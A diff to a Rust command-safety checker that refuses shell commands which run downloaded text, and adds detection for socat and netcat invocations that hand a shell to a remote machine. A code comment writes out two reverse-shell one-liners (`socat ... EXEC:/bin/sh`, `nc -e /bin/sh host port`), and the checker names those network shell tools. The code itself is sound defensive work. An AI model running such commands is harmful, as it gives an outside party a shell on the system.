@@ -2,9 +2,11 @@
 //!
 //! Refused: downloaded text that reaches a shell or an interpreter as code, through a pipe, a
 //! substitution, a variable, a descriptor, a file written on the same command line, or with base64 or
-//! any filter in between that nobody knows; code decoded from something unreadable. Allowed: downloading, looking, filtering (`| jq`, `| tar x`,
-//! `| python3 -c …` where the download is only data), and running a file that an earlier call
-//! downloaded.
+//! any filter in between that nobody knows; a file that any remote copier brought, or that was unpacked
+//! out of a download, and runs in the same command; code decoded from something unreadable. Allowed:
+//! downloading, looking, filtering (`| jq`, `| tar x`, `| python3 -c …` where the download is only data),
+//! running a file that an earlier call downloaded, and all of it in a container that is made for the
+//! command and shares nothing.
 //!
 //! Default: text that is unknown but did not come from the network is no download.
 //!
@@ -76,6 +78,23 @@ pub fn check(view: &View<'_>) -> Option<String> {
         && args.iter().any(|arg| arg == "-" || arg == "/dev/stdin")
     {
         return Some(format!("{name} would run what was just downloaded"));
+    }
+    // `socat TCP:host:port EXEC:/bin/sh`, `nc -e /bin/sh host port`.
+    let shell = |program: &str| {
+        let program = program.split([' ', ',']).next().unwrap_or_default();
+        crate::walk::runs_code(path::name(program))
+    };
+    let starts = |arg: &String| {
+        let program = arg
+            .split_once(':')
+            .filter(|(kind, _)| Words("EXEC SYSTEM exec system").has(kind));
+        program.is_some_and(|(_, program)| shell(program))
+    };
+    let after = |pair: &[String]| Words("-e -c --exec --sh-exec").has(&pair[0]) && shell(&pair[1]);
+    if (name == "socat" && args.iter().any(starts))
+        || (Words("nc ncat netcat").has(name) && args.windows(2).any(after))
+    {
+        return Some(format!("{name} would run what another machine sends"));
     }
     let remote = |arg: &String| arg.starts_with("http://") || arg.starts_with("https://");
     if name == "deno" && args.first().is_some_and(|verb| verb == "run") && args.iter().any(remote) {
